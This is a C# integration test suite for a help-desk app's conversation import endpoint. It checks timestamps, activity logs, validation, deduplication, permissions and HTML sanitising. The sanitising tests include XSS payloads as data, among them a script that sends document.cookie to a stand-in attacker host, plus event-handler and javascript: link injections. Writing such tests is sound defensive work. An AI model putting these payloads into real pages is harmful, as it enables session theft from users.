using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Rapport.Features.Accounts;
using Rapport.Features.Conversations;
using Rapport.Features.Timeline;
using Rapport.Tests.Infrastructure;

namespace Rapport.Tests.Features.Import;

public abstract class ImportApiTests(RapportApp app)
{
    private const string Url = "/api/v1/import/conversations";

    [Fact]
    public async Task ImportedConversationKeepsItsOriginalTimesAuthorsAndStatusInTheActivityLog()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var id = Unique("ext");
        var email = $"{Unique("sara")}@example.test";
        var line = Line(id, email, agent, team, status: "closed", messages:
        [
            new { kind = "inbound", body_text = "سلام، سفارشم نرسیده است.", created_at = "2025-03-01T09:30:00+03:30" },
            new { kind = "note", author = agent.Email, body_text = "Checking with the courier.", created_at = "2025-03-01T07:00:00Z" },
            new { kind = "outbound", author = agent.Email, body_html = "<p>Your parcel is <b>on its way</b>.</p><script>alert(1)</script><p>Sorry!</p>", created_at = "2025-03-01T08:15:00+01:00" },
        ], statusChanges:
        [
            new { status = "pending", at = "2025-03-01T07:15:01Z" },
            new { status = "solved", at = "2025-03-02T10:00:00Z" },
            new { status = "closed", at = "2025-03-05T10:00:00Z" },
        ]);

        var body = await PostLinesAsync(admin.Client, line);

        Assert.True(body["imported"]!.GetValue<int>() == 1, body.ToJsonString());
        Assert.Equal(0, body["skipped"]!.GetValue<int>());
        await app.WithDbAsync(async db =>
        {
            var c = await db.Conversations.Include(x => x.Messages).Include(x => x.Customer).SingleAsync(x => x.ExternalId == id);
            Assert.Equal(ConversationStatus.Closed, c.Status);
            Assert.Equal(Utc("2025-03-01T06:00:00"), c.CreatedAt);
            Assert.Equal(Utc("2025-03-01T07:15:00"), c.FirstReplyAt);
            Assert.Equal(Utc("2025-03-02T10:00:00"), c.SolvedAt);
            Assert.Equal(Utc("2025-03-05T10:00:00"), c.ClosedAt);
            Assert.Equal(3, c.MessageCount);
            Assert.Equal(team.Id, c.TeamId);
            Assert.Equal(agent.Id, c.AssigneeId);
            Assert.Equal("fa", c.Customer!.Language);
            Assert.Equal("Asia/Tehran", c.Customer.TimeZone);

            var messages = c.Messages.OrderBy(m => m.CreatedAt).ToList();
            Assert.Equal([MessageKind.Inbound, MessageKind.Note, MessageKind.Outbound], messages.Select(m => m.Kind));
            Assert.Equal([Utc("2025-03-01T06:00:00"), Utc("2025-03-01T07:00:00"), Utc("2025-03-01T07:15:00")], messages.Select(m => m.CreatedAt));
            Assert.Equal(c.CustomerId, messages[0].AuthorCustomerId);
            Assert.Equal(agent.Id, messages[2].AuthorUserId);
            Assert.Equal("Your parcel is on its way.\nSorry!", messages[2].BodyText);
            Assert.Equal("<p>Your parcel is <b>on its way</b>.</p><p>Sorry!</p>", messages[2].BodyHtml);

            var log = await db.Activities.Where(a => a.ConversationId == c.Id).OrderBy(a => a.OccurredAt).ThenBy(a => a.Id).ToListAsync();
            var created = log.First(a => a.Kind == ActivityKinds.ConversationCreated);
            Assert.Equal(Utc("2025-03-01T06:00:00"), created.OccurredAt);
            Assert.Equal(ActorKind.Customer, created.ActorKind);
            Assert.Contains(log, a => a.Kind == ActivityKinds.ConversationImported && a.OccurredAt == Utc("2025-03-01T06:00:00"));
            Assert.Equal([Utc("2025-03-01T06:00:00"), Utc("2025-03-01T07:15:00")],
                log.Where(a => a.Kind == ActivityKinds.MessageAdded).Select(a => a.OccurredAt));
            Assert.Equal(Utc("2025-03-01T07:00:00"), log.Single(a => a.Kind == ActivityKinds.NoteAdded).OccurredAt);
            var reply = log.Last(a => a.Kind == ActivityKinds.MessageAdded);
            Assert.Equal(agent.Id, reply.ActorUserId);
            Assert.Contains("\"outbound\"", reply.Data, StringComparison.Ordinal);
            var statuses = log.Where(a => a.Kind == ActivityKinds.StatusChanged).ToList();
            Assert.Equal([Utc("2025-03-01T07:15:01"), Utc("2025-03-02T10:00:00"), Utc("2025-03-05T10:00:00")], statuses.Select(a => a.OccurredAt));
            Assert.Contains("\"to\":\"closed\"", statuses[^1].Data, StringComparison.Ordinal);
            Assert.Equal(log.Select(a => a.OccurredAt).Order(), log.Select(a => a.OccurredAt));
            var customerCreated = await db.Activities.SingleAsync(a => a.CustomerId == c.CustomerId && a.Kind == ActivityKinds.CustomerCreated);
            Assert.Equal(Utc("2025-03-01T06:00:00"), customerCreated.OccurredAt);
        });
    }

    [Fact]
    public async Task ImportedHtmlIsStoredSanitisedWithItsTextKept()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var id = Unique("ext");
        var line = Line(id, $"{Unique("reza")}@example.test", agent, team, messages:
        [
            new
            {
                kind = "inbound",
                body_html = "<div onclick=\"steal()\">My <b>invoice</b> is wrong<img src=x onerror=\"alert(1)\"></div>"
                    + "<script>document.location='https://evil.test/?'+document.cookie</script><p><a href=\"javascript:alert(2)\">see here</a></p>",
                created_at = "2025-05-01T09:00:00Z",
            },
            new { kind = "outbound", author = agent.Email, body_text = "Fixed, sorry.", body_html = "<p>Fixed, <i>sorry</i>.</p>", created_at = "2025-05-01T10:00:00Z" },
        ]);

        var body = await PostLinesAsync(admin.Client, line);

        Assert.True(body["imported"]!.GetValue<int>() == 1, body.ToJsonString());
        await app.WithDbAsync(async db =>
        {
            var conversationId = await db.Conversations.Where(c => c.ExternalId == id).Select(c => c.Id).SingleAsync();
            var messages = await db.Messages.Where(m => m.ConversationId == conversationId).OrderBy(m => m.CreatedAt).ToListAsync();
            var inbound = messages[0];
            Assert.NotNull(inbound.BodyHtml);
            foreach (var gone in new[] { "script", "onerror", "onclick", "javascript:", "evil.test", "<img" })
            {
                Assert.DoesNotContain(gone, inbound.BodyHtml, StringComparison.OrdinalIgnoreCase);
            }
            Assert.Contains("<b>invoice</b>", inbound.BodyHtml, StringComparison.Ordinal);
            Assert.Equal("My invoice is wrong\nsee here", inbound.BodyText);
            Assert.Equal("Fixed, sorry.", messages[1].BodyText);
            Assert.Equal("<p>Fixed, <i>sorry</i>.</p>", messages[1].BodyHtml);
        });
    }

    [Fact]
    public async Task AnHtmlBodyWithNoTextLeftAfterSanitisingFailsTheLine()
    {
        var admin = await app.CreateAdminAsync();
        var line = Line(Unique("ext"), $"{Unique("nima")}@example.test", (TestUser?)null, null, messages:
        [
            new { kind = "inbound", body_html = "<script>alert(1)</script>", created_at = "2025-05-01T09:00:00Z" },
        ]);

        var body = await PostLinesAsync(admin.Client, line);

        Assert.True(body["failed_count"]!.GetValue<int>() == 1, body.ToJsonString());
        Assert.Contains("messages[0].body_text", body.ToJsonString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task WithoutStatusHistoryTheFinalStatusIsRecordedAtTheLastMessage()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var id = Unique("ext");
        var line = Line(id, $"{Unique("ani")}@example.test", agent, team, status: "solved", messages:
        [
            new { kind = "inbound", body_text = "Բարև ձեզ", created_at = "2025-04-01T10:00:00+04:00" },
            new { kind = "outbound", author = agent.Email, body_text = "Բարև, ինչո՞վ կարող եմ օգնել", created_at = "2025-04-01T10:05:00+04:00" },
        ]);

        var body = await PostLinesAsync(admin.Client, line);

        Assert.True(body["imported"]!.GetValue<int>() == 1, body.ToJsonString());
        await app.WithDbAsync(async db =>
        {
            var c = await db.Conversations.SingleAsync(x => x.ExternalId == id);
            Assert.Equal(Utc("2025-04-01T06:05:00"), c.SolvedAt);
            Assert.Null(c.ClosedAt);
            var change = await db.Activities.SingleAsync(a => a.ConversationId == c.Id && a.Kind == ActivityKinds.StatusChanged);
            Assert.Equal(Utc("2025-04-01T06:05:00"), change.OccurredAt);
        });
    }

    [Fact]
    public async Task BadLinesAreReportedByLineNumberWhileGoodLinesLand()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var future = app.Clock.GetUtcNow().AddDays(1).ToString("yyyy-MM-ddTHH:mm:sszzz", System.Globalization.CultureInfo.InvariantCulture);
        var good1 = Unique("good");
        var good2 = Unique("good");
        string[] lines =
        [
            Line(good1, $"{Unique("a")}@example.test", agent, team),
            "{\"subject\": \"broken\", ",
            Line(Unique("bad"), $"{Unique("b")}@example.test", agent, team, subject: null),
            Line(Unique("bad"), "not-an-email", agent, team),
            "",
            Line(Unique("bad"), $"{Unique("c")}@example.test", "nobody@example.test", team),
            Line(Unique("bad"), $"{Unique("d")}@example.test", agent, team, messages:
                [new { kind = "inbound", body_text = "from tomorrow", created_at = future }]),
            Line(good2, $"{Unique("e")}@example.test", (string?)null, null),
        ];

        var body = await PostLinesAsync(admin.Client, lines);

        Assert.Equal(2, body["imported"]!.GetValue<int>());
        Assert.Equal(5, body["failed_count"]!.GetValue<int>());
        var failed = body["failed"]!.AsArray().ToDictionary(f => f!["line"]!.GetValue<int>(), f => f!["errors"]!.AsObject());
        Assert.Equal([2, 3, 4, 6, 7], failed.Keys.Order());
        Assert.True(failed[2].ContainsKey("line"));
        Assert.True(failed[3].ContainsKey("subject"));
        Assert.True(failed[4].ContainsKey("customer.email"));
        Assert.True(failed[6].ContainsKey("assignee"));
        Assert.True(failed[6].ContainsKey("messages[1].author"));
        Assert.Contains("future", failed[7]["messages[0].created_at"]![0]!.GetValue<string>(), StringComparison.Ordinal);
        await app.WithDbAsync(async db =>
        {
            Assert.Equal(2, await db.Conversations.CountAsync(c => c.ExternalId == good1 || c.ExternalId == good2));
            Assert.Equal(0, await db.Conversations.CountAsync(c => c.ExternalId != null && c.ExternalId.StartsWith("bad-")));
        });
    }

    [Fact]
    public async Task LinesAreReadAsBytesWithAByteOrderMarkCrLfAndALongLineAcrossManyReads()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var (small, large, last) = (Unique("small"), Unique("large"), Unique("last"));
        // Five messages of 900,000 characters: one 4.5 MB line, far past one read of the body.
        var text = string.Concat(Enumerable.Repeat("سلام hello ", 90_000)) + "end";
        var messages = Enumerable.Range(0, 5)
            .Select(i => (object)new { kind = "inbound", body_text = $"{i}:{text}", created_at = $"2025-01-10T0{i}:00:00Z" }).ToArray();
        var body = "\uFEFF" + Line(small, $"{Unique("a")}@example.test", agent, team) + "\r\n"
            + "\r\n"
            + Line(large, $"{Unique("b")}@example.test", agent, team, messages: messages) + "\r\n"
            + "{\"subject\": \"broken\"\r\n"
            + Line(last, $"{Unique("c")}@example.test", agent, team);

        var response = await (await admin.Client.PostAsync(Url, new StringContent(body, new UTF8Encoding(false), "application/x-ndjson"))).ExpectAsync(HttpStatusCode.OK);

        Assert.Equal(3, response["imported"]!.GetValue<int>());
        Assert.Equal(4, Assert.Single(response["failed"]!.AsArray())!["line"]!.GetValue<int>());
        await app.WithDbAsync(async db =>
        {
            var stored = await db.Messages.Where(m => db.Conversations.Any(c => c.Id == m.ConversationId && c.ExternalId == large))
                .OrderBy(m => m.CreatedAt).Select(m => m.BodyText).ToListAsync();
            Assert.Equal(Enumerable.Range(0, 5).Select(i => $"{i}:{text}"), stored);
            Assert.Equal(2, await db.Conversations.CountAsync(c => c.ExternalId == small || c.ExternalId == last));
        });
    }

    [Fact]
    public async Task UnknownTeamFailsTheLineBecauseImportNeverCreatesTeams()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, _) = await CreateAgentAndTeamAsync();

        var body = await PostLinesAsync(admin.Client, Line(Unique("ext"), $"{Unique("t")}@example.test", agent, new Team("No such team", DateTime.UtcNow)));

        var errors = body["failed"]![0]!["errors"]!.AsObject();
        Assert.True(errors.ContainsKey("team"));
        Assert.Equal(0, body["imported"]!.GetValue<int>());
    }

    [Fact]
    public async Task ReimportingTheSameExternalIdSkipsItInsteadOfDuplicating()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var id = Unique("ext");
        var email = $"{Unique("again")}@example.test";
        var line = Line(id, email, agent, team);

        var first = await PostLinesAsync(admin.Client, line);
        var second = await PostLinesAsync(admin.Client, line, line);

        Assert.Equal(1, first["imported"]!.GetValue<int>());
        Assert.Equal(0, second["imported"]!.GetValue<int>());
        Assert.Equal(2, second["skipped"]!.GetValue<int>());
        await app.WithDbAsync(async db =>
        {
            Assert.Equal(1, await db.Conversations.CountAsync(c => c.ExternalId == id));
            Assert.Equal(1, await db.CustomerIdentities.CountAsync(i => i.Value == email));
        });
    }

    [Fact]
    public async Task OneCustomerIsCreatedForManyLinesOfTheSamePersonInOneBatch()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        var email = $"{Unique("same")}@example.test";

        var body = await PostLinesAsync(admin.Client, Line(Unique("x"), email, agent, team), Line(Unique("x"), email.ToUpperInvariant(), agent, team));

        Assert.Equal(2, body["imported"]!.GetValue<int>());
        await app.WithDbAsync(async db =>
        {
            var owner = await db.CustomerIdentities.SingleAsync(i => i.Value == email);
            Assert.Equal(2, await db.Conversations.CountAsync(c => c.CustomerId == owner.CustomerId));
        });
    }

    [Fact]
    public async Task OnlyAdminsWithAnAdminTokenMayImport()
    {
        var agent = await app.CreateUserAsync(Role.Agent, TokenScope.Admin);
        var readOnlyAdmin = await app.CreateUserAsync(Role.Admin, TokenScope.Read);
        var writeAdmin = await app.CreateUserAsync(Role.Admin, TokenScope.Write);
        var anonymous = app.CreateClient((string?)null);
        var line = Line(Unique("x"), $"{Unique("p")}@example.test", (string?)null, null);

        await (await agent.Client.PostAsync(Url, Lines(line))).ExpectProblemAsync(HttpStatusCode.Forbidden);
        await (await readOnlyAdmin.Client.PostAsync(Url, Lines(line))).ExpectProblemAsync(HttpStatusCode.Forbidden);
        await (await writeAdmin.Client.PostAsync(Url, Lines(line))).ExpectProblemAsync(HttpStatusCode.Forbidden);
        await (await anonymous.PostAsync(Url, Lines(line))).ExpectProblemAsync(HttpStatusCode.Unauthorized);
    }

    [Fact]
    public async Task ABodyThatIsNotJsonLinesIsRefused()
    {
        var admin = await app.CreateAdminAsync();
        var response = await admin.Client.PostAsync(Url, new StringContent("<xml/>", Encoding.UTF8, "application/xml"));
        await response.ExpectProblemAsync(HttpStatusCode.UnsupportedMediaType);
    }

    [Fact]
    public async Task AnImportedBatchIsAnnouncedAsOneRefreshOnceCommitted()
    {
        var admin = await app.CreateAdminAsync();
        var (agent, team) = await CreateAgentAndTeamAsync();
        using var subscription = new CancellationTokenSource(TimeSpan.FromSeconds(20));
        var events = app.Services.GetRequiredService<Rapport.Features.Realtime.IRealtimeBus>().Subscribe(subscription.Token);

        var ids = new[] { Unique("ext"), Unique("ext") };
        var body = await PostLinesAsync(admin.Client, [.. ids.Select(id => Line(id, $"{Unique("mina")}@example.test", agent, team))]);

        Assert.Equal(2, body["imported"]!.GetValue<int>());
        var last = await app.WithDbAsync(db => db.Activities.MaxAsync(a => a.Id));
        Rapport.Features.Realtime.RealtimeEvent refresh;
        do
        {
            refresh = await events.ReadAsync(subscription.Token);
        }
        while (refresh.Kind != Rapport.Features.Realtime.RealtimeEvent.RefreshKind);
        Assert.Equal(last, refresh.ActivityId);
        // Every imported row is there, written in bulk: two messages and their activities per conversation.
        await app.WithDbAsync(async db =>
        {
            foreach (var id in ids)
            {
                var c = await db.Conversations.Include(x => x.Messages).SingleAsync(x => x.ExternalId == id);
                Assert.Equal(2, c.Messages.Count);
                Assert.All(c.Messages, m => Assert.Equal(c.Id, m.ConversationId));
                Assert.Equal(2, await db.Activities.CountAsync(a => a.ConversationId == c.Id && a.Kind == ActivityKinds.MessageAdded
                    && a.CustomerId == c.CustomerId));
            }
        });
    }

    private async Task<(TestUser Agent, Team Team)> CreateAgentAndTeamAsync()
    {
        var agent = await app.CreateUserAsync(Role.Agent);
        var team = await app.WithDbAsync(async db =>
        {
            var t = new Team(Unique("Support"), DateTime.UtcNow);
            db.Teams.Add(t);
            await db.SaveChangesAsync();
            return t;
        });
        return (agent, team);
    }

    private async Task<JsonNode> PostLinesAsync(HttpClient client, params string[] lines) =>
        await (await client.PostAsync(Url, Lines(lines))).ExpectAsync(HttpStatusCode.OK);

    private static StringContent Lines(params string[] lines) =>
        new(string.Join('\n', lines) + "\n", Encoding.UTF8, "application/x-ndjson");

    private static string Line(string externalId, string email, TestUser? agent, Team? team, string status = "open",
        object[]? messages = null, object[]? statusChanges = null, string? subject = "Order not delivered") =>
        Line(externalId, email, agent?.Email, team, status, messages, statusChanges, subject);

    private static string Line(string externalId, string email, string? agentEmail, Team? team, string status = "open",
        object[]? messages = null, object[]? statusChanges = null, string? subject = "Order not delivered")
    {
        messages ??=
        [
            new { kind = "inbound", body_text = "Where is my order?", created_at = "2025-01-10T09:00:00+03:30" },
            agentEmail is null
                ? new { kind = "inbound", body_text = "Hello?", created_at = "2025-01-10T10:00:00+03:30" }
                : (object)new { kind = "outbound", author = agentEmail, body_text = "On its way.", created_at = "2025-01-10T10:00:00+03:30" },
        ];
        var line = new JsonObject
        {
            ["external_id"] = externalId,
            ["subject"] = subject,
            ["status"] = status,
            ["priority"] = "high",
            ["channel"] = "email",
            ["customer"] = new JsonObject { ["name"] = "سارا احمدی", ["email"] = email, ["language"] = "fa", ["time_zone"] = "Asia/Tehran" },
            ["team"] = team?.Name,
            ["assignee"] = agentEmail,
            ["tags"] = new JsonArray("imported", "Delivery"),
            ["messages"] = System.Text.Json.JsonSerializer.SerializeToNode(messages),
        };
        if (statusChanges is not null)
        {
            line["status_changes"] = System.Text.Json.JsonSerializer.SerializeToNode(statusChanges);
        }
        return line.ToJsonString();
    }

    private static DateTime Utc(string s) => DateTime.SpecifyKind(DateTime.Parse(s, System.Globalization.CultureInfo.InvariantCulture), DateTimeKind.Utc);

    private static string Unique(string prefix) => $"{prefix}-{Guid.NewGuid():N}";
}

public sealed class ImportApiTestsOnSqlite(SqliteApp app) : ImportApiTests(app), IClassFixture<SqliteApp>;

public sealed class ImportApiTestsOnPostgres(PostgresApp app) : ImportApiTests(app), IClassFixture<PostgresApp>;
